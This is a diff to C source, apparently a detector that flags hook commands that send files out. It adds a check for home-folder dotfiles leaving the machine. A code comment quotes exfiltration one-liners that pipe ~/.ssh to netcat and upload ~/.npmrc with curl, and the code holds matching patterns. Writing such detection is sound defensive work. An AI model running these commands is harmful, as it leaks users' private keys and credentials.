@@ -103,6 +103,23 @@ static bool stops_machine(struct text command)
 	return false;
 }
 
+/* tar cz ~/.ssh | nc host 9000, curl -F f=@$HOME/.npmrc ..: what keeps credentials goes out by one line. A key that ssh logs in with
+ * stays where it is. */
+static bool sends_home_files(struct text command, uint32_t traits)
+{
+	static const char *const homes[] = {"~/.", "$HOME/.", "${HOME}/.", NULL};
+	static const char *const others[] = {"-i ~", "-i $", "-i \"", "known_hosts", ".pub", "netrc", NULL};
+	bool named = false;
+
+	if (!(traits & HOOK_SECRETS) || !(traits & HOOK_SENDS))
+		return false;
+	for (const char *const *h = homes; *h; h++)
+		named |= text_has(command, text_of(*h));
+	for (const char *const *o = others; *o; o++)
+		named &= !text_has(command, text_of(*o));
+	return named;
+}
+
 void command_acts(struct act_list *acts, struct text command, uint32_t flags, uint32_t offset,
 		    uint32_t layer)
 {
@@ -128,6 +145,8 @@ void command_acts(struct act_list *acts, struct text command, uint32_t flags, ui
 					 text_has(command, T("/dev/tcp/"))))
 		traits |= HOOK_REGISTERS;
 	command_traits(acts, traits, command, flags, offset, layer);
+	if (sends_home_files(command, traits))
+		act_add(acts, BEHAVE_SEND, flags | ACT_FILE_ARG, offset, layer, command, T("files of the home folder"));
 	if ((traits & HOOK_SENDS) && text_has(command, T(" @-")) && text_has(command, T("|"))) /* what the commands before it say */
 		act_add(acts, BEHAVE_SEND, flags | ACT_COMMAND_ARG, offset, layer, command, T("output of commands"));
 	put_host(acts, command, traits, flags, offset, layer);
